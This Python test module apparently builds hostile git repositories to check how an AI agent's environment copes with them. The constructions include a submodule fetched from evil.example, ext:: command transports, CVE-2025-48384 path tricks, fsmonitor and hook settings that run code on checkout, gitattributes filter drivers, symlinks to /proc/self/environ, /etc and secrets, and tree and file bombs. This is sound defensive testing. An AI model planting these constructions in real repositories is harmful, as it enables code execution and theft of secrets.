"""Repositories that mean harm, the second half: they are fetched, and an agent works in them, or they can't be used."""

from tests.hostile.configurations import CONFIGURATIONS
from tests.hostile.inside.texts import NAMES
from tests.hostile.inside.trap import Trap
from tests.hostile.making import LINK, PROGRAM, Entry, Maker
from tests.hostile.planted import Plant

SUBMODULE_PATHS = {"ending_in_a_return": b"lib\r", "ending_in_a_newline": b"lib\n", "within_hooks": b"hooks"}


def submodule_of_someone(make: Maker, _trap: Trap) -> list[Entry]:
    """It would be fetched from anywhere."""
    modules = make.file(".gitmodules", '[submodule "lib"]\n\tpath = lib\n\turl = https://evil.example/lib.git\n')
    return [modules, make.submodule("lib")]


def submodule_by_a_program(make: Maker, trap: Trap) -> list[Entry]:
    """Its address is one of a transport that runs commands."""
    modules = make.file(".gitmodules", f'[submodule "lib"]\n\tpath = lib\n\turl = "ext::{trap.program}"\n')
    return [modules, make.submodule("lib")]


def submodule_without_an_address(make: Maker, _trap: Trap) -> list[Entry]:
    """A commit that nobody says where to find."""
    return [make.submodule("vendor")]


def submodule_in_a_link(make: Maker, trap: Trap) -> list[Entry]:
    """Where names are not told apart by their case, the link leads the submodule's files into `.git`."""
    modules = make.file(".gitmodules", '[submodule "x/y"]\n\tpath = A/modules/x\n\turl = ./x\n')
    hook = make.folder("hooks", [make.file("post-checkout", f"#!/bin/sh\n{trap.program}\n", PROGRAM)])
    return [modules, make.link("a", ".git"), make.folder("A", [make.folder("modules", [make.submodule("x"), hook])])]


def submodule_path(name: str, path: bytes) -> Plant:
    """A path that its configuration and git's index read differently (CVE-2025-48384)."""

    def plant(make: Maker, trap: Trap) -> list[Entry]:
        quoted = path.decode().replace("\r", "\r").replace("\n", "\\n")
        modules = make.file(".gitmodules", f'[submodule "lib"]\n\tpath = "{quoted}"\n\turl = ./lib\n')
        hook = make.file("post-checkout", f"#!/bin/sh\n{trap.program}\n", PROGRAM)
        return [modules, make.submodule(path), make.link("lib", ".git/modules/lib/hooks"), make.folder("inner", [hook])]

    plant.__name__ = f"submodule_{name}"
    return plant


def bare_within(make: Maker, trap: Trap) -> list[Entry]:
    """git takes the folder itself for a repository, and obeys its settings."""
    return [make.folder("bare", _bare(make, trap))]


def bare_at_the_top(make: Maker, trap: Trap) -> list[Entry]:
    """The checkout itself looks like one."""
    return _bare(make, trap)


def _bare(make: Maker, trap: Trap) -> list[Entry]:
    settings = f"[core]\n\tworktree = .\n\tfsmonitor = {trap.program}\n"
    files = {"HEAD": "ref: refs/heads/main\n", "config": settings, "objects/x": "", "refs/x": ""}
    hook = make.folder("hooks", [make.file("post-checkout", f"#!/bin/sh\n{trap.program}\n", PROGRAM)])
    return [*make.files(files), hook]


def hooks_of_its_own(make: Maker, trap: Trap) -> list[Entry]:
    """Folders in which tools look for hooks."""
    hook = f"#!/bin/sh\n{trap.program}\n"
    places = (".githooks", ".husky", "hooks")
    return [make.folder(place, [make.file("post-checkout", hook, PROGRAM)]) for place in places]


def attributes(make: Maker, trap: Trap) -> list[Entry]:
    """Filters, large files elsewhere, differences and merges, each by a program."""
    lines = "* filter=evil diff=evil merge=evil ident\n*.mp4 filter=lfs diff=lfs merge=lfs -text\n"
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 1\n"
    return [make.file(".gitattributes", lines), make.file("a.mp4", pointer), make.file("id", f"$Id: {trap.program}$")]


def encodings(make: Maker, _trap: Trap) -> list[Entry]:
    """Files are written in an encoding that there is not, or that they are not in."""
    lines = "a.txt working-tree-encoding=nonsense\nb.txt working-tree-encoding=UTF-32\nc.txt text eol=crlf\n"
    return [make.file(".gitattributes", lines), *make.files({"a.txt": "a\n", "b.txt": b"\xff\xfe\n", "c.txt": "c\n"})]


def link(name: str, place: str, target: str) -> Plant:
    """A link out of the repository; `{}` is the secret."""

    def plant(make: Maker, trap: Trap) -> list[Entry]:
        return [make.file(place, target.format(trap.secret), LINK)]

    plant.__name__ = f"checked_out_link_{name}"
    return plant


def link_with_a_file_below(make: Maker, trap: Trap) -> list[Entry]:
    """Where names are not told apart by their case, the file is written through the link."""
    outside = trap.secret.rpartition("/")[0]
    return [make.link("Way", outside), make.folder("way", make.files({"secret": "overwritten"}))]


def name_longer_than_any(make: Maker, _trap: Trap) -> list[Entry]:
    """No file system takes it."""
    return [make.file("n" * 300, "x")]


def path_longer_than_any(make: Maker, _trap: Trap) -> list[Entry]:
    """No system call takes it."""
    entry = make.file("file", "x")
    for _ in range(2500):
        entry = make.folder("d", [entry])
    return [entry]


def tree_bomb(make: Maker, _trap: Trap) -> list[Entry]:
    """A few objects, and ten thousand million files."""
    entries = [make.file(f"f{number}", "x") for number in range(10)]
    for level in range(9):
        below = make.tree(entries)
        entries = [Entry("40000", f"{level}{number}".encode(), below) for number in range(10)]
    return entries


def file_bomb(make: Maker, _trap: Trap) -> list[Entry]:
    """One file of zeros, under many names."""
    one = make.file("zeros", bytes(16 * 1024**2))
    return [Entry(one.mode, f"zeros{number}".encode(), one.sha) for number in range(1000)]


def mode_of_nothing(make: Maker, _trap: Trap) -> list[Entry]:
    """An entry that is no file, folder, link or submodule."""
    return [make.file("device", "x", "20644")]


def names(make: Maker, _trap: Trap) -> list[Entry]:
    """Each of the odd names at once."""
    return [make.file(name.encode(), "x") for name in NAMES.values()] + [make.file(b"caf\xe9\xff", "x")]


REFUSED_OUT: tuple[Plant, ...] = (name_longer_than_any, path_longer_than_any, encodings, tree_bomb, file_bomb)
WORKED_IN: tuple[Plant, ...] = (
    submodule_of_someone,
    submodule_by_a_program,
    submodule_without_an_address,
    submodule_in_a_link,
    *(submodule_path(*words) for words in SUBMODULE_PATHS.items()),
    bare_within,
    bare_at_the_top,
    hooks_of_its_own,
    attributes,
    link("to_a_secret", "stolen", "{}"),
    link("to_the_environment", "environ", "/proc/self/environ"),
    link("to_etc", "etc", "/etc"),
    link("upwards", "up", "../../.."),
    link("to_git", "git", ".git"),
    link("as_attributes", ".gitattributes", "{}"),
    link("as_ignored", ".gitignore", "{}"),
    link_with_a_file_below,
    names,
    mode_of_nothing,
    *CONFIGURATIONS,
)
